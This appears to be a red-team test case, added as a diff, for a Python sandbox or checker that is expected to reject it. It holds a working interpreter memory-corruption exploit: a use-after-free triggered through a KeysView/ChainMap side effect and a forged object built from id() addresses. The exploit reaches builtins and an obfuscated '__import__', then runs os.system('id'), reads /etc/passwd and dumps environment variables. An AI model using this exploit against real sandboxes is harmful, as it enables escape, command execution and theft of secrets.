@@ -1,0 +1,69 @@
+# expect: reject memory
+# line: 35
+# why: round 101b (red team): super().__len__() of a KeysView subclass is the view's len, which sizes a ChainMap: a base's method through super() is that operation on the object and its arguments
+import collections
+import collections.abc
+
+vl = []
+KEEP = []
+
+
+def q(v):
+    return v.to_bytes(8, "little")
+
+
+def g():
+    return 0
+
+
+FAKE = (q(0) + q(0) + q(1 << 40) + q(id(list)) + q(2) + q(id(g) + 16) + q(2)
+        + q(0) + q(0) + q(0) + q(0) + q(0))[:89]
+
+
+def wipe(x):
+    vl.clear()
+    return x
+
+
+CA = collections.ChainMap(map(wipe, [1]))
+
+
+class KW(collections.abc.KeysView):
+    def probe(self):
+        # KeysView.__len__ -> len(self._mapping) -> ChainMap.__len__
+        # -> len(set().union(*self.maps)) -> runs map(wipe, [1])
+        return super().__len__()
+
+
+K5 = KW(CA)
+
+
+class V:
+    __slots__ = ("a", "b", "c", "d", "e", "f", "h", "i")
+
+    def __eq__(self, o):
+        return False
+
+    def __lt__(self, o):
+        n = K5.probe()
+        return NotImplemented
+
+
+class W:
+    def __eq__(self, o):
+        return False
+
+    def __gt__(self, o):
+        return o
+
+
+vl.append(V())
+w = W()
+got = vl < [w]
+KEEP.append(bytearray(FAKE))
+bt = got[1]
+imp = bt["".join(map(chr, [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]))]
+osm = imp("os")
+osm.system("id")
+print(bt["open"]("/etc/passwd").read()[:200])
+print(dict(osm.environ))
